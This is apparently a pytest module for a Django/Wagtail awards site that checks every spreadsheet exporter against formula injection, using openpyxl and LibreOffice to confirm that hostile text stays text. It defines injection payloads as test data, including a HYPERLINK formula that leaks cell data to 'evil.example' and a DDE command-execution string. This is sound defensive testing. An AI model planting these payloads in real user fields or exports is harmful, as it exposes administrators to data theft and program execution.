"""Spreadsheet injection, as the attack (issue 13, part 2; docs/security.md, threat 2.1).

Someone with the source code and an ordinary account (a nominator, a visitor of the enquiry
form, a signatory, a judge) types text that a spreadsheet reads as a formula: `=HYPERLINK(…)`
sends the sheet's data to another site when an administrator clicks it, `=cmd|…` asks Excel to
run a program, `+1+1` and `-2+3` compute, `@SUM(1)` is Excel's other way to start a formula, and
a leading tab or carriage return hides the `=` from naive filters. The text goes through EVERY
exporter of the platform, and each file is opened twice, as an administrator's computer would:

- with openpyxl: no cell of an xlsx file is a formula (data type "f"); the hostile text comes
  back as text; numbers (scores, counts, a negative Net Promoter Score) are numbers;
- with LibreOffice (Debian's libreoffice-calc-nogui, `make office`): each xlsx converted to CSV
  (`soffice --headless --convert-to csv`, every sheet) shows every text cell exactly as
  written, nothing evaluated; each CSV opened with formula evaluation on (as Excel opens CSV)
  and saved as xlsx has no formula cell, the hostile text as text and numbers as numbers.

The exporters are listed in EXPORTS; `test_every_export_view_is_attacked` fails when a view that
exports is added to the URLconf without a row here, and `test_every_export_view_writes_through_
the_site_writer` when it does not write through awards_site/exports.py.

Without the guard (awards_site/exports.py: `is_formula_like` answering False, `text_cell` not
forcing a string), every exporter fails here; with Wagtail's own export methods left as Wagtail
wrote them (no `install_on_wagtail`), Wagtail's reports and redirects fail on their CSV.
"""

import csv
import io
import re
import shutil
import subprocess
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.db import transaction
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.forms.models import FormMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.models import Page, Workflow

from awards_site import exports
from cms.models import (
    EnquiryFormPage,
    NewsArticlePage,
    NewsIndexPage,
    PledgeSignature,
)
from judging.models import CriterionScore, Round, Scoresheet, ScoresheetStatus
from nominations.choices import NominationStatus
from nominations.models import AwardCycle, Category, Nomination
from nominations.wizard.forms import ContactStepForm
from tests.factories.cms import OpenLetterSignatureFactory, PledgeSignatureFactory

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the form")'
DDE = "=cmd|' /C calc'!A0"
EQUALS = "=1+1"
PLUS = "+1+1"
MINUS = "-2+3"
AT = "@SUM(1)"
TAB = "\t=1"
CR = "\r=1"
PHONE = "+254712345678"  # a real number: text, never the number 254712345678 or a formula
NPS = -20  # a number that starts with "-": it stays a number

pytestmark = pytest.mark.django_db

SOFFICE = shutil.which("soffice") or "/usr/bin/soffice"
CSV_IN = "Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,false,true"
CSV_OUT = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"


@dataclass
class Export:
    name: str
    url: str
    user: str | None  # who downloads it (None: the URL is set up by the world)
    payloads: tuple  # hostile texts this file must hold, as text
    numbers: tuple = ()  # values this file must hold as numbers
    content: bytes = b""
    path: Path | None = None
    office: dict = field(default_factory=dict)  # LibreOffice's reading

    @property
    def is_csv(self):
        return "export=csv" in self.url


ADMIN = "admin@demo.test"
SPONSOR = "sponsor@demo.test"
NOMINATION_TEXT = (HYPERLINK, AT, TAB)  # organisation, city, initiative (no contact details)


def _with_formats(name, url, user, payloads, numbers=()):
    separator = "&" if "?" in url else "?"
    return [
        Export(f"{name} (xlsx)", f"{url}{separator}export=xlsx", user, payloads, numbers),
        Export(f"{name} (CSV)", f"{url}{separator}export=csv", user, payloads, numbers),
    ]


def exports_of(world):
    """Every exporter of the platform, with what it must carry."""
    return [
        Export(
            "sponsor workbook",
            f"/sponsors/CX27/{world.digital.pk}/report.xlsx",
            SPONSOR,
            (HYPERLINK, AT),  # organisation, category name; never contact details
            (world.sent_in_digital,),  # the count of nominations, a number
        ),
        Export(
            "sponsor workbook with published results",
            "/sponsors/CX26/report.xlsx",
            SPONSOR,
            (EQUALS,),  # a category's name, in the summary and the Results sheet
        ),
        Export(
            "cycle report (administrators)",
            f"/admin/cycle-reports/{world.cycle.pk}/report.xlsx",
            ADMIN,
            (HYPERLINK, PLUS, MINUS, AT, PHONE),  # organisation, contact, job title, phone
            (world.sent,),
        ),
        Export(
            "judging results export",
            f"/admin/judging/results/{world.round.pk}/export.xlsx",
            ADMIN,
            (HYPERLINK, DDE, AT, CR),  # organisation, judge's name, comments
            (world.score,),
        ),
        *_with_formats("nominations list", "/admin/nomination/", ADMIN, NOMINATION_TEXT, (NPS,)),
        *_with_formats(
            "letter co-signatures", "/admin/snippets/cms/openlettersignature/", ADMIN, (DDE, PLUS)
        ),
        *_with_formats(
            "pledge signatures", "/admin/snippets/cms/pledgesignature/", ADMIN, (EQUALS, AT)
        ),
        *_with_formats("translation report", "/admin/reports/translations/", ADMIN, (HYPERLINK,)),
        *_with_formats("locked pages report", "/admin/reports/locked/", ADMIN, (HYPERLINK,)),
        *_with_formats("aging pages report", "/admin/reports/aging-pages/", ADMIN, (HYPERLINK,)),
        *_with_formats("site history report", "/admin/reports/site-history/", ADMIN, (HYPERLINK,)),
        *_with_formats("workflows report", "/admin/reports/workflow/", ADMIN, (HYPERLINK,)),
        *_with_formats(
            "workflow tasks report", "/admin/reports/workflow_tasks/", ADMIN, (HYPERLINK,)
        ),
        *_with_formats("redirects", "/admin/redirects/", ADMIN, (HYPERLINK,)),
        *_with_formats(
            "enquiries (form submissions)",
            f"/admin/forms/submissions/{world.enquiry_page.pk}/",
            ADMIN,
            (HYPERLINK, PLUS, MINUS, AT, PHONE),
        ),
    ]


# The hostile world ---------------------------------------------------------------------------


class World:
    pass


def _hostile_world(client):
    User = get_user_model()
    admin = User.objects.get(email=ADMIN)
    world = World()

    # Nominators: every sent nomination of the current cycle, with a number starting with "-".
    world.cycle = AwardCycle.objects.get(code="CX27")
    sent = Nomination.objects.filter(cycle=world.cycle).exclude(status=NominationStatus.DRAFT)
    sent.update(
        organisation_name=HYPERLINK,
        contact_name=PLUS,
        contact_role=MINUS,
        city=AT,
        initiative_title=TAB,
        contact_phone=PHONE,
        nps_before=NPS,
    )
    world.sent = sent.count()
    world.digital = Category.objects.get(cycle=world.cycle, name_en="Digital public service")
    world.sent_in_digital = sent.filter(category=world.digital).count()
    world.digital.name_en = AT
    world.digital.save()
    Category.objects.filter(cycle__code="CX26").update(name_en=EQUALS)

    # A judge: their name, and their comments on the entries of the current round.
    world.round = Round.objects.get(cycle=world.cycle)
    sheets = Scoresheet.objects.filter(
        assignment__round=world.round, status=ScoresheetStatus.SUBMITTED
    )
    sheets.update(overall_comment=CR)
    CriterionScore.objects.filter(scoresheet__in=sheets).update(comment=AT)
    judge = sheets.first().assignment.judge.user
    judge.first_name, judge.last_name = DDE, ""
    judge.save()
    world.score = CriterionScore.objects.filter(scoresheet__in=sheets).first().score

    # Signatories of the open letter and the pledge (public forms).
    key = Page.objects.filter(depth=2).first().translation_key
    OpenLetterSignatureFactory(
        page_key=key, name=DDE, organisation=PLUS, country="KE", email="dde@example.org"
    )
    PledgeSignatureFactory(
        page_key=key,
        name=EQUALS,
        organisation=AT,
        country="GH",
        email="at@example.org",
        kind=PledgeSignature._meta.get_field("kind").choices[0][0],
    )

    # An editor's page: locked, in a workflow, out of date in French, in the site's history.
    news = NewsIndexPage.objects.get(slug="news")
    article = news.add_child(
        instance=NewsArticlePage(
            title=HYPERLINK, slug="hostile-title", date="2026-02-01", intro="Intro."
        )
    )
    article.save_revision(user=admin).publish(user=admin)
    article = Page.objects.get(pk=article.pk)
    Workflow.objects.get(name="Moderators approval").start(article.specific, admin)
    Page.objects.filter(pk=article.pk).update(
        locked=True, locked_by=admin, locked_at=timezone.now()
    )

    # A redirect whose target someone typed.
    Redirect.objects.create(old_path="/old-hostile", redirect_link=HYPERLINK)

    # A visitor's enquiry: the phone field takes only phone numbers.
    world.enquiry_page = EnquiryFormPage.objects.get(slug="become-a-partner")
    url = world.enquiry_page.url
    form = {
        "full_name": PLUS,
        "organisation": HYPERLINK,
        "email_address": "visitor@example.org",
        "phone_number": MINUS,
        "type_of_enquiry": "Sponsorship",
        "message": AT,
    }
    refused = client.post(url, form)
    assert "Enter a phone number with its country code" in refused.content.decode()
    accepted = client.post(url, {**form, "phone_number": "+254 712 345678"})
    assert "Thank you for your enquiry." in accepted.content.decode()
    # "-2+3" goes in the message instead (a form strips a leading carriage return or tab).
    client.post(url, {**form, "phone_number": "", "message": MINUS})
    return world


# Opening the files -------------------------------------------------------------------------


def _content(response):
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def _office(paths, target, filter_options, out_dir, profile):
    if not paths:
        return
    command = [
        SOFFICE,
        f"-env:UserInstallation={profile.as_uri()}",
        "--headless",
        "--norestore",
        "--convert-to",
        target,
        "--outdir",
        str(out_dir),
    ]
    if filter_options:
        command[3:3] = [f"--infilter={filter_options}"]
    subprocess.run(command + [str(path) for path in paths], check=True, capture_output=True)


def _read_csv(path):
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


@pytest.fixture(scope="module")
def exported(django_db_setup, django_db_blocker, tmp_path_factory):
    """Every export of the hostile world, as bytes, and as LibreOffice reads each."""
    if not Path(SOFFICE).exists():
        pytest.fail(
            "LibreOffice is missing: install Debian's 'libreoffice-calc-nogui' "
            "(`make office` does, as root)."
        )
    folder = tmp_path_factory.mktemp("exports")
    User = get_user_model()
    with django_db_blocker.unblock(), transaction.atomic():
        visitor = Client()
        world = _hostile_world(visitor)
        files = exports_of(world)
        clients = {}
        for number, export in enumerate(files):
            if export.user not in clients:
                clients[export.user] = Client()
                clients[export.user].force_login(User.objects.get(email=export.user))
            response = clients[export.user].get(export.url)
            assert response.status_code == 200, (export.name, response.status_code)
            export.content = _content(response)
            export.path = folder / f"export{number}.{'csv' if export.is_csv else 'xlsx'}"
            export.path.write_bytes(export.content)
        transaction.set_rollback(True)

    profile = tmp_path_factory.mktemp("office-profile")
    xlsx_out, csv_out = folder / "xlsx-as-csv", folder / "csv-as-xlsx"
    _office([e.path for e in files if not e.is_csv], CSV_OUT, None, xlsx_out, profile)
    _office([e.path for e in files if e.is_csv], "xlsx", CSV_IN, csv_out, profile)
    for export in files:
        if export.is_csv:
            export.office = {"book": load_workbook(csv_out / f"{export.path.stem}.xlsx")}
        else:
            export.office = {
                sheet.name.removeprefix(f"{export.path.stem}-").removesuffix(".csv"): _read_csv(
                    sheet
                )
                for sheet in xlsx_out.glob(f"{export.path.stem}-*.csv")
            }
    return {export.name: export for export in files}


class _Stub:
    """Stands for the world where only its ids matter (names and addresses of the exports)."""

    digital = cycle = round = enquiry_page = type("Pk", (), {"pk": 7})()
    score = sent = sent_in_digital = 0


def _names():
    return [export.name for export in exports_of(_Stub())]


def _same(text):
    """What a spreadsheet keeps of a text: a carriage return is a line break once read."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


# The attack, file by file --------------------------------------------------------------------


@pytest.mark.parametrize("name", [n for n in _names() if not n.endswith("(CSV)")])
def test_no_xlsx_cell_is_a_formula_and_hostile_text_stays_text(exported, name):
    export = exported[name]
    book = load_workbook(io.BytesIO(export.content))
    texts, numbers = set(), []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (name, sheet.title, cell.coordinate, cell.value)
                if cell.data_type == "s" and cell.value is not None:
                    texts.add(_same(cell.value))
                elif cell.data_type == "n" and cell.value is not None:
                    numbers.append(cell.value)
    for payload in export.payloads:
        assert _same(payload) in texts, (name, payload)
    for number in export.numbers:
        assert number in numbers, (name, number)


@pytest.mark.parametrize("name", [n for n in _names() if not n.endswith("(CSV)")])
def test_libreoffice_shows_every_xlsx_text_as_written(exported, name):
    export = exported[name]
    book = load_workbook(io.BytesIO(export.content))
    assert set(export.office) == {sheet.title for sheet in book.worksheets}, export.office.keys()
    shown = set()
    for sheet in book.worksheets:
        office = export.office[sheet.title]
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type != "s" or cell.value in (None, ""):
                    continue
                seen = office[cell.row - 1][cell.column - 1]
                assert _same(seen) == _same(cell.value), (name, sheet.title, cell.coordinate)
                shown.add(_same(seen))
    for payload in export.payloads:
        assert _same(payload) in shown, (name, payload)


NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


@pytest.mark.parametrize("name", [n for n in _names() if n.endswith("(CSV)")])
def test_no_csv_field_starts_a_formula(exported, name):
    export = exported[name]
    assert export.content.startswith(b"\xef\xbb\xbf"), "a UTF-8 BOM, for Excel"
    fields = [value for row in _read_csv(export.path) for value in row]
    for value in fields:
        if exports.is_formula_like(value):
            assert NUMBER.match(value), (name, value)  # only a number may start with "-"
    for payload in export.payloads:
        assert "'" + payload in fields, (name, payload)


@pytest.mark.parametrize("name", [n for n in _names() if n.endswith("(CSV)")])
def test_libreoffice_evaluates_no_csv_field(exported, name):
    """Opened with formula evaluation on (as Excel opens a CSV): no formula, hostile text as
    text (with the apostrophe that marks it), numbers as numbers."""
    export = exported[name]
    texts, numbers = set(), []
    for sheet in export.office["book"].worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (name, cell.coordinate, cell.value)
                if cell.data_type == "s":
                    texts.add(_same(cell.value))
                elif cell.data_type == "n":
                    numbers.append(cell.value)
    for payload in export.payloads:
        assert _same("'" + payload) in texts, (name, payload)
    for number in export.numbers:
        assert number in numbers, (name, number)


# Every exporter is here, and writes through the site's writer ------------------------------


def _export_views():
    """(route, view class) of every URL whose view can download a spreadsheet."""
    found = []

    def walk(patterns, prefix=""):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, prefix + str(pattern.pattern))
            elif isinstance(pattern, URLPattern):
                view = getattr(pattern.callback, "view_class", None)
                if view is None or not issubclass(view, SpreadsheetExportMixin):
                    continue
                initkwargs = getattr(pattern.callback, "view_initkwargs", {})
                if initkwargs.get("results_only"):
                    continue
                exporting = initkwargs.get("list_export", view.list_export)
                if exporting or view.__dict__.get("show_export_buttons") is True:
                    found.append((prefix + str(pattern.pattern), view))

    walk(get_resolver().url_patterns)
    return found


def test_every_export_view_is_attacked():
    attacked = {re.sub(r"\?.*", "", export.url) for export in exports_of(_Stub())}
    attacked = {re.sub(r"/\d+/", "/<id>/", url) for url in attacked}
    for route, view in _export_views():
        address = "/" + re.sub(r"<[^>]+>", "<id>", route)
        assert address in attacked, f"{view.__name__} at /{route} exports: add it to EXPORTS"
    for model in _form_page_models():
        assert model is EnquiryFormPage, f"{model.__name__}'s submissions export: add it"


def _form_page_models():
    from django.apps import apps

    return [
        model
        for model in apps.get_models()
        if issubclass(model, FormMixin) and issubclass(model, Page) and not model._meta.abstract
    ]


def test_every_export_view_writes_through_the_site_writer():
    views = [view for _route, view in _export_views()]
    assert views
    for view in views:
        assert exports.writes_safely(view), view
    for model in _form_page_models():
        assert exports.writes_safely(model().get_submissions_list_view_class()), model


def test_only_the_writer_writes_spreadsheets():
    """No module of the project but awards_site/exports.py makes a workbook or a CSV writer
    (the two workbooks keep openpyxl's charts and styles, which hold no user text)."""
    import ast

    root = Path(__file__).resolve().parents[2]
    for app in ("awards_site", "cms", "nominations", "judging"):
        for path in (root / app).rglob("*.py"):
            if path.name == "exports.py" and path.parent.name == "awards_site":
                continue
            tree = ast.parse(path.read_text(encoding="utf-8"))
            for node in ast.walk(tree):
                if isinstance(node, ast.Import):
                    names = [alias.name for alias in node.names]
                elif isinstance(node, ast.ImportFrom):
                    names = [f"{node.module}.{alias.name}" for alias in node.names]
                else:
                    continue
                for name in names:
                    assert not name.startswith(("csv", "openpyxl.Workbook", "openpyxl.cell")), (
                        path,
                        name,
                    )
                    assert name not in ("openpyxl", "xlsxwriter"), (path, name)


# Fields that are numbers accept only numbers ---------------------------------------------------


@pytest.mark.parametrize("typed", [HYPERLINK, PLUS, MINUS, AT, "0712 hello"])
def test_the_contact_phone_accepts_only_a_phone_number(typed):
    nomination = Nomination(country="KE")
    form = ContactStepForm(
        data={
            "contact_name": "Amina",
            "contact_role": "Director",
            "contact_email": "amina@example.org",
            "contact_phone": typed,
        },
        instance=nomination,
    )
    assert not form.is_valid()
    assert "contact_phone" in form.errors
    form = ContactStepForm(
        data={**form.data, "contact_phone": "0712 345678"}, instance=Nomination(country="KE")
    )
    assert form.is_valid(), form.errors
    assert form.cleaned_data["contact_phone"] == PHONE


def test_the_sites_contact_phone_accepts_only_a_phone_number():
    from django.core.exceptions import ValidationError

    from cms.models import SiteSettings

    for typed in (EQUALS, PLUS, MINUS, "call us"):
        with pytest.raises(ValidationError) as refused:
            SiteSettings(contact_phone=typed).clean_fields(exclude=["site"])
        assert list(refused.value.message_dict) == ["contact_phone"]
    SiteSettings(contact_phone="+237 651 781 862").clean_fields(exclude=["site"])
